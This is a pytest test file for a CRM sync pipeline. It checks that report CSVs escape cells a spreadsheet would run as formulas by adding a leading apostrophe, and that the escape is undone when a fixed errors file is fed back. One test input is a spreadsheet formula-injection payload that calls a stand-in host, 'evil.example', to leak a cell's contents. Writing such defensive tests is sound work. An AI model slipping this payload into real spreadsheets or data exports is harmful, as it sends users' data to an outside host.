"""Report files are safe to open in a spreadsheet: a cell a spreadsheet would run as a formula
is written with a leading apostrophe, and a fixed errors.csv fed back loses exactly that
apostrophe again, so Rally gets the source's values."""

from __future__ import annotations

import csv
from dataclasses import dataclass
from pathlib import Path

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from crmsync.report.changes import ChangeLog
from crmsync.run import run_pipeline
from crmsync.sandbox.testing import InProcessSandbox
from crmsync.spreadsheet import escape_cell, is_report, unescape_cell

from .conftest import DESTINATION, pipeline, write_csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
STEP = """\
name: people
object: contacts
source: {kind: csv, path: %s}
mapping: {firstName: First, lastName: Last, email: Email, phone: Phone, title: Title}
normalize: {phone_policy: keep}
"""


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "])))
def test_the_escape_is_undone_exactly(text: str) -> None:
    escaped = escape_cell(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_cell(escaped) == text


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_formulas_are_escaped_in_the_report_and_not_sent_to_rally(
    rally: InProcessSandbox, tmp_path: Path
) -> None:
    write_csv(
        tmp_path,
        "people.csv",
        "First,Last,Email,Phone,=Title",
        '=HYPERLINK("http://evil.example/?"&A2),Lee,not-an-email,+49 30 1234567,@home',
        "Ann,-Smith,ann@x.org,+1 555 0100,-CTO-",
    )
    text = (STEP % "people.csv").replace("title: Title", "title: =Title") + DESTINATION
    first = run_pipeline(pipeline(tmp_path, text, rally), transport=rally.transport)
    assert (first.summary.created, first.summary.failed) == (1, 1)

    raw = first.files["errors"].read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in raw and "'+49 30 1234567" in raw and "'@home" in raw
    assert "\n=" not in raw and ",=" not in raw and ",+" not in raw and ",@" not in raw
    (error,) = read_rows(first.files["errors"])
    assert "'=Title" in error and error["'=Title"] == "'@home"
    assert is_report(list(error))

    fixed = tmp_path / "fixed.csv"
    error["Email"] = "lee@x.org"
    with fixed.open("w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, fieldnames=list(error))
        writer.writeheader()
        writer.writerow(error)
    text = (STEP % "fixed.csv").replace("title: Title", "title: =Title") + DESTINATION
    again = run_pipeline(pipeline(tmp_path, text, rally), transport=rally.transport)
    assert (again.summary.created, again.summary.failed) == (1, 0)
    lee = next(r for r in rally.records("contacts") if r["email"] == "lee@x.org")
    assert lee["firstName"] == '=HYPERLINK("http://evil.example/?"&A2)'
    assert (lee["phone"], lee["title"]) == ("+49301234567", "@home")
    ann = next(r for r in rally.records("contacts") if r["email"] == "ann@x.org")
    assert (ann["lastName"], ann["title"]) == ("-Smith", "-CTO-")  # a source, not a report


def test_an_ordinary_file_keeps_its_leading_apostrophes(
    rally: InProcessSandbox, tmp_path: Path
) -> None:
    write_csv(tmp_path, "people.csv", "First,Last,Email,Phone,Title", "'=x,Lee,lee@x.org,,'+1")
    run_pipeline(
        pipeline(tmp_path, STEP % "people.csv" + DESTINATION, rally), transport=rally.transport
    )
    (lee,) = rally.records("contacts")
    assert (lee["firstName"], lee["title"]) == ("'=x", "'+1")


@dataclass(frozen=True)
class Change:
    field: str
    before: object
    after: object
    why: str
    base: object = None
    source: object = None


def test_plan_and_conflicts_are_escaped_too(tmp_path: Path) -> None:
    with ChangeLog(tmp_path) as log:
        changes = [
            Change("phone", "+1 555 0100", "=1+1", "source changed"),
            Change("title", "@boss", "-CTO-", "conflict kept", base="x", source="-CTO-"),
        ]
        log.add("=people.csv", 2, "id-1", changes)
    plan = read_rows(tmp_path / "plan.csv")
    assert [(r["source"], r["from"], r["to"]) for r in plan] == [
        ("'=people.csv", "'+1 555 0100", "'=1+1"),
        ("'=people.csv", "'@boss", "'-CTO-"),
    ]
    (conflict,) = read_rows(tmp_path / "conflicts.csv")
    assert (conflict["crm"], conflict["kept"]) == ("'@boss", "crm")


def test_records_a_dry_run_would_create_have_their_source_escaped(tmp_path: Path) -> None:
    created = pl.DataFrame(
        {
            "_source": ["=people.csv", "people.csv"],
            "_row": [2, 3],
            "to": ['{"title": "=1+1"}', '{"email": "ada@x.org"}'],
            "fields": [1, 1],
        }
    )
    with ChangeLog(tmp_path) as log:
        log.add_created(created)
    plan = read_rows(tmp_path / "plan.csv")
    assert [(r["source"], r["row"], r["to"], r["why"]) for r in plan] == [
        ("'=people.csv", "2", '{"title": "=1+1"}', "new"),
        ("people.csv", "3", '{"email": "ada@x.org"}', "new"),
    ]
    assert log.fields == 2
